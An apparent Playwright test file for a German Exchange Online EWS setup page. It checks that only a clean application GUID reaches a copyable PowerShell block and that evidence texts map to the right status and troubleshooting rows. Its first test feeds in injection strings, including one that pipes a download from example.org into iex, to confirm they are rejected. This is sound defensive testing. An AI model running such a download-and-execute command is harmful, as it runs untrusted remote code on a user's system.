import { readFileSync } from 'node:fs';
import type { Page } from 'playwright/test';
import { check, expectSteps, field, step } from './rig/contract';
import { expect, test } from './rig/test';

const ID = 'b41c7d90-2f5e-4c08-9e6d-73a18b52f0c4';
const textOf = (name: string) => readFileSync(`tests/cases/${name}.txt`, 'utf8');

/** Into a field, wherever it stands and whether or not its step is the one that is shown. */
const type = (page: Page, name: string, value: string) =>
  page.locator(`[name=${name}]`).evaluate((element, text) => {
    (element as HTMLInputElement).value = text;
    for (const event of ['input', 'change']) element.dispatchEvent(new Event(event, { bubbles: true }));
  }, value);

const block = (page: Page) => step(page, 'ews-freigabe').locator('.command', { hasText: 'Set-OrganizationConfig' });

test('only an id ever reaches the block that is copied', async ({ page }) => {
  await page.goto('/#ews-freigabe');
  for (const typed of ["x'; iwr https://example.org | iex; $z='", `${ID}'; iex 'x`, 'SoftENGINE Mailserver', '']) {
    await type(page, 'clientId', typed);
    await expect(block(page)).toContainText("([guid]'Ihre Anwendungs-ID')");
  }
  await type(page, 'clientId', ` ${ID} `);
  await expect(block(page)).toContainText(`([guid]'${ID}')`);
  const copied = await block(page).locator('[data-value]').textContent();
  expect(copied).toMatch(/^& \{\n {2}\$ErrorActionPreference = 'Stop'\n[^]*\n\}$/);
});

for (const [name, row] of [
  ['E25', 'ews-403-richtlinie'],
  ['E10', 'powershell-skripte-gesperrt'],
  ['E08', 'powershell-parameter-unbekannt'],
] as const) {
  test(`${name}: what is no answer of Exchange Online leads to its row of troubleshooting`, async ({ page }) => {
    await page.goto(`/#clientId=${ID}`);
    await type(page, 'evidenceText', textOf(name));
    await expectSteps(page, { 'ews-freigabe': 'unknown' });
    await expect(page.locator('[data-message-place] a')).toHaveAttribute('href', `/fehlersuche/#${row}`);
    await page.goto(`/fehlersuche/#${row}`);
    await expect(page.locator(`[id="${row}"]`)).toBeVisible();
  });
}

for (const [name, status, words] of [
  ['G01', 'unknown', 'Einstellung eines Postfachs'],
  ['E13', 'unknown', 'Ihres eigenen Exchange-Servers'],
  ['G12', 'warn', 'Für das Postfach „Lager“ ist EWS ausgeschaltet'],
  ['H01', 'pass', 'Organisation musterwerk.onmicrosoft.com'],
  ['E16', 'fail', 'es fehlen Zeichen'],
] as const) {
  test(`${name} is ${status} in the page as well`, async ({ page }) => {
    await page.goto(`/#clientId=${ID}`);
    await type(page, 'evidenceText', textOf(name));
    await expectSteps(page, { 'ews-freigabe': status });
    await expect(field(check(page, 'ews-allowed'), 'ist')).toContainText(words);
  });
}
